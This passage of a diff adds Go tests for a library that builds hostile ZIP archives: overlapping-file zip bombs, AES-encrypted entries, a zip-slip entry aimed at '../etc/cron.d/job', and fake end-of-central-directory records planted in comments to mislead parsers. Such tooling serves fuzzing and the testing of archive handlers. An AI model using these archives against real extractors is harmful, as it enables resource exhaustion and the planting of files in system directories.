+		assert.Equal(t, "4b007901b765489abead49d926f721d065a429c1", hex.EncodeToString(pbkdf2SHA1([]byte("password"), []byte("salt"), 4096, 20)))
+		assert.Equal(t, "3d2eec4fe41c849b80c8d83662c0e44a8b291a964cf2f07038", hex.EncodeToString(pbkdf2SHA1([]byte("passwordPASSWORDpassword"), []byte("saltSALTsaltSALTsaltSALTsaltSALTsalt"), 4096, 25)))
+	})
+
+	for _, tc := range []struct {
+		encryption Encryption
+		version    AESVersion
+		strength   byte
+	}{
+		{AES128, AE1, 1},
+		{AES192, AE2, 2},
+		{AES256, AE1, 3},
+	} {
+		buffer := new(bytes.Buffer)
+
+		zbomb, err := New(buffer)
+		assert.NoError(t, err)
+
+		err = zbomb.AddNoOverlap(RepeatKernel{Bytes: []byte{'A'}, Repeats: 100000}, 2, func(o *OverlapOptions) {
+			o.Password = "secret"
+			o.Encryption = tc.encryption
+			o.AESVersion = tc.version
+		})
+		assert.NoError(t, err)
+
+		err = zbomb.AddFile("plain.txt", strings.NewReader("CCCC"), func(o *FileOptions) {
+			o.Method = Store
+			o.Password = "secret"
+			o.Encryption = tc.encryption
+			o.AESVersion = tc.version
+		})
+		assert.NoError(t, err)
+
+		err = zbomb.Close()
+		assert.NoError(t, err)
+
+		r, err := zip.NewReader(bytes.NewReader(buffer.Bytes()), int64(buffer.Len()))
+		assert.NoError(t, err)
+		assert.Len(t, r.File, 3)
+
+		keyLen := aesKeyLen(tc.encryption)
+
+		for _, file := range r.File {
+			assert.Equal(t, uint16(aesMethod), file.Method)
+			assert.Equal(t, uint16(flagEncrypted), file.Flags&flagEncrypted)
+
+			// the extra field holds the version, the strength and the method
+			assert.True(t, hasExtra(file.Extra, aesExtraID))
+			extra := file.Extra[len(file.Extra)-aesExtraDataLen:]
+			assert.Equal(t, uint16(tc.version)+1, binary.LittleEndian.Uint16(extra))
+			assert.Equal(t, "AE", string(extra[2:4]))
+			assert.Equal(t, tc.strength, extra[4])
+
+			method := binary.LittleEndian.Uint16(extra[5:])
+
+			raw, err := file.OpenRaw()
+			assert.NoError(t, err)
+
+			data, err := io.ReadAll(raw)
+			assert.NoError(t, err)
+			assert.Equal(t, file.CompressedSize64, uint64(len(data)))
+
+			salt := data[:keyLen/2]
+			verifier := data[keyLen/2 : keyLen/2+aesVerifierLen]
+			encrypted := data[keyLen/2+aesVerifierLen : len(data)-aesAuthCodeLen]
+			authCode := data[len(data)-aesAuthCodeLen:]
+
+			keys := pbkdf2SHA1([]byte("secret"), salt, aesIterations, 2*keyLen+aesVerifierLen)
+			assert.Equal(t, keys[2*keyLen:], verifier)
+
+			mac := hmac.New(sha1.New, keys[keyLen:2*keyLen])
+			mac.Write(encrypted)
+			assert.Equal(t, mac.Sum(nil)[:aesAuthCodeLen], authCode)
+
+			block, err := aes.NewCipher(keys[:keyLen])
+			assert.NoError(t, err)
+
+			// counter mode with a little-endian counter starting at 1,
+			// independent of the writer
+			content := make([]byte, len(encrypted))
+			counter, keyStream := make([]byte, aes.BlockSize), make([]byte, aes.BlockSize)
+
+			for i := range encrypted {
+				if i%aes.BlockSize == 0 {
+					binary.LittleEndian.PutUint64(counter, uint64(i/aes.BlockSize+1))
+					block.Encrypt(keyStream, counter)
+				}
+
+				content[i] = encrypted[i] ^ keyStream[i%aes.BlockSize]
+			}
+
+			if method == Deflate {
+				content, err = io.ReadAll(flate.NewReader(bytes.NewReader(content)))
+				assert.NoError(t, err)
+			}
+
+			if tc.version == AE1 {
+				assert.Equal(t, file.CRC32, crc32.ChecksumIEEE(content))
+			} else {
+				assert.Equal(t, uint32(0), file.CRC32)
+			}
+		}
+	}
+}
+
+func TestExtraFields(t *testing.T) {
+	mtime := time.Date(2021, 3, 4, 5, 6, 8, 0, time.UTC)
+	atime := mtime.Add(time.Hour)
+
+	timestamp, err := ExtendedTimestampExtra(mtime, atime, time.Time{})
+	assert.NoError(t, err)
+	assert.Equal(t, []byte{0x55, 0x54, 0x09, 0x00, 0x03, 0xc0, 0x6a, 0x40, 0x60, 0xd0, 0x78, 0x40, 0x60}, timestamp)
+	assert.Equal(t, []byte{0x75, 0x78, 0x0b, 0x00, 0x01, 0x04, 0xe8, 0x03, 0x00, 0x00, 0x04, 0x00, 0x00, 0x00, 0x00}, UnixOwnerExtra(1000, 0))
+
+	// the central directory keeps the flags and the modification time
+	assert.Equal(t, []byte{0x55, 0x54, 0x05, 0x00, 0x03, 0xc0, 0x6a, 0x40, 0x60}, centralTimestampExtra(timestamp))
+
+	unknown, err := UnknownExtra(0xcafe, []byte("hi"))
+	assert.NoError(t, err)
+	assert.Equal(t, []byte{0xfe, 0xca, 0x02, 0x00, 'h', 'i'}, unknown)
+
+	_, err = UnknownExtra(0xcafe, make([]byte, uint16max-3))
+	assert.ErrorIs(t, err, errLongExtra)
+
+	ntfs, err := NTFSExtra(mtime, atime, mtime)
+	assert.NoError(t, err)
+	assert.Len(t, ntfs, 36)
+	assert.Equal(t, uint64(132593079680000000), binary.LittleEndian.Uint64(ntfs[12:]))
+
+	for _, tm := range []time.Time{
+		time.Date(1969, 12, 31, 23, 59, 59, 0, time.UTC),
+		time.Date(2106, 2, 7, 6, 28, 16, 0, time.UTC),
+	} {
+		_, err = ExtendedTimestampExtra(mtime, tm, time.Time{})
+		assert.ErrorIs(t, err, errTimestampRange)
+	}
+
+	for _, tm := range []time.Time{
+		time.Date(1600, 12, 31, 23, 59, 59, 0, time.UTC),
+		time.Date(70000, 1, 1, 0, 0, 0, 0, time.UTC),
+	} {
+		_, err = NTFSExtra(mtime, tm, time.Time{})
+		assert.ErrorIs(t, err, errFiletimeRange)
+	}
+
+	// beyond the range of UnixNano
+	ft, err := timeToFiletime(time.Date(3000, 1, 1, 0, 0, 0, 0, time.UTC))
+	assert.NoError(t, err)
+	assert.Equal(t, uint64(441481536000000000), ft)
+
+	for _, extra := range [][]byte{timestamp, ntfs} {
+		buffer := new(bytes.Buffer)
+
+		zbomb, err := New(buffer)
+		assert.NoError(t, err)
+
+		err = zbomb.AddZipSlip(BytesKernel("root"), "../etc/cron.d/job", func(o *ZipSlipOptions) {
+			o.FileMode = 0644
+			o.Modified = mtime
+			o.Extra = append(append(UnixOwnerExtra(0, 0), extra...), unknown...)
+		})
+		assert.NoError(t, err)
+
+		err = zbomb.Close()
+		assert.NoError(t, err)
+
+		r, err := zip.NewReader(bytes.NewReader(buffer.Bytes()), int64(buffer.Len()))
+		assert.NoError(t, err)
+
+		file := r.File[0]
+		assert.True(t, hasExtra(file.Extra, infoZipUnixExtraID))
+		assert.NotContains(t, string(file.Extra), string(timestamp))
+		assert.True(t, hasExtra(file.Extra, 0xcafe))
+		assert.True(t, mtime.Equal(file.Modified))
+		assert.Equal(t, uint16(mtime.Hour()<<11|mtime.Minute()<<5|mtime.Second()/2), file.ModifiedTime)
+	}
+}
+
+func TestComment(t *testing.T) {
+	assert.Len(t, PadComment("x"), MaxCommentLength)
+	assert.True(t, strings.HasPrefix(FakeEOCDComment("x"), "xPK\x05\x06"))
+
+	t.Run("Entry", func(t *testing.T) {
+		buffer := new(bytes.Buffer)
+
+		zbomb, err := New(buffer, func(o *Options) {
+			o.EntryComment = PadComment(FakeEOCDComment("entry"))
+			o.EOCDComment = PadComment("archive")
+		})
+		assert.NoError(t, err)
+
+		err = zbomb.AddNoOverlap(BytesKernel("A"), 2, func(o *OverlapOptions) {
+			o.Comment = "own"
+		})
+		assert.NoError(t, err)
+
+		err = zbomb.AddEscapedOverlap(BytesKernel("B"), 2)
+		assert.NoError(t, err)
+
+		err = zbomb.Close()
+		assert.NoError(t, err)
+
+		r, err := zip.NewReader(bytes.NewReader(buffer.Bytes()), int64(buffer.Len()))
+		assert.NoError(t, err)
+		assert.Len(t, r.File, 4)
+		assert.Len(t, r.Comment, MaxCommentLength)
+
+		assert.Equal(t, "own", r.File[0].Comment)
+		assert.Len(t, r.File[2].Comment, MaxCommentLength)
+		assert.True(t, strings.HasPrefix(r.File[2].Comment, "entryPK\x05\x06"))
+	})
+
+	t.Run("Non-ASCII entry comment of overlapping files", func(t *testing.T) {
+		for _, unicodeExtra := range []bool{false, true} {
+			buffer := new(bytes.Buffer)
+
+			zbomb, err := New(buffer, func(o *Options) {
+				o.EntryComment = "ü"
+				o.UnicodeExtra = unicodeExtra
+			})
+			assert.NoError(t, err)
+
+			err = zbomb.AddEscapedOverlap(RepeatKernel{Bytes: []byte{'B'}, Repeats: 1000}, 5, func(o *OverlapOptions) {
+				o.ExtraTag = 0x9999
+			})
+			assert.NoError(t, err)
+
+			err = zbomb.Close()
+			assert.NoError(t, err)
+
+			assertExtractable(t, buffer.Bytes(), zbomb.UncompressedSize())
+
+			r, err := zip.NewReader(bytes.NewReader(buffer.Bytes()), int64(buffer.Len()))
+			assert.NoError(t, err)
+
+			for _, file := range r.File {
+				assert.Equal(t, "ü", file.Comment)
+				assert.Equal(t, uint16(flagUTF8), file.Flags&flagUTF8)
+			}
+		}
+	})
+
+	t.Run("Fake EOCD", func(t *testing.T) {
+		buffer := new(bytes.Buffer)
+
+		zbomb, err := New(buffer, func(o *Options) {
+			o.EOCDComment = PadComment(FakeEOCDComment(""))
+		})
+		assert.NoError(t, err)
+
+		err = zbomb.AddNoOverlap(BytesKernel("A"), 2)
+		assert.NoError(t, err)
+
+		err = zbomb.Close()
+		assert.NoError(t, err)
+
+		// archive/zip picks the fake record in the comment
+		r, err := zip.NewReader(bytes.NewReader(buffer.Bytes()), int64(buffer.Len()))
+		assert.NoError(t, err)
+		assert.Len(t, r.File, 0)
+	})
+
+	t.Run("Too long", func(t *testing.T) {
+		_, err := New(io.Discard, func(o *Options) {
+			o.EntryComment = PadComment("") + "x"
+		})
+		assert.ErrorIs(t, err, errLongComment)
+
+		// no room for the decoy in the comment
+		_, err = New(io.Discard, func(o *Options) {
+			o.EOCDComment = PadComment("")
+			o.DecoyEOCD = DecoyEOCDComment
+		})
+		assert.ErrorIs(t, err, errLongComment)
+	})
+}